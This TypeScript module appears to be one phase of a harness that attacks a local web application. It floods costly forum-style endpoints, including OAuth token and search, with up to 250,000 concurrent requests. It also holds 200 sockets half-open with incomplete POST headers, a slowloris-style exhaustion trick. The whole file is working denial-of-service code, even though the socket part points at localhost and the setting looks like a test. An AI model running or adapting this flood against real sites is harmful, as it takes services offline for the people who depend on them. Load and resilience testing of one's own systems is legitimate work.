import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { send, type Target } from './target.ts';

const MAX_REQUESTS = 250_000;
const CONCURRENCY = 64;
const IDLE_CONNECTIONS = 200;

const PATHS = [
  '/latest.json',
  '/session/current.json',
  '/user-api-key/new',
  '/search?q=aaaaaaaab',
  '/oauth/token',
];

/** Sends as many requests as the site answers, beside connections that stay half-open, until the phase is over. */
export async function flood(target: Target): Promise<void> {
  const sockets = await openConnections(target);
  let count = 0;
  const work = async () => {
    while (count < MAX_REQUESTS && !target.isOver()) {
      const path = PATHS[count % PATHS.length] ?? '/';
      count += 1;
      await send(target, 'flood', path, { method: path === '/oauth/token' ? 'POST' : 'GET' });
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, work));
  for (const socket of sockets) socket.destroy();
}

async function openConnections({ url }: Target): Promise<Socket[]> {
  const sockets = Array.from({ length: IDLE_CONNECTIONS }, () =>
    connect(Number(new URL(url).port), '127.0.0.1'),
  );
  for (const socket of sockets) {
    socket.on('error', () => {});
    await once(socket, 'connect');
    socket.write('POST /session.json HTTP/1.1\r\nContent-Length: 10\r\n');
  }
  return sockets;
}
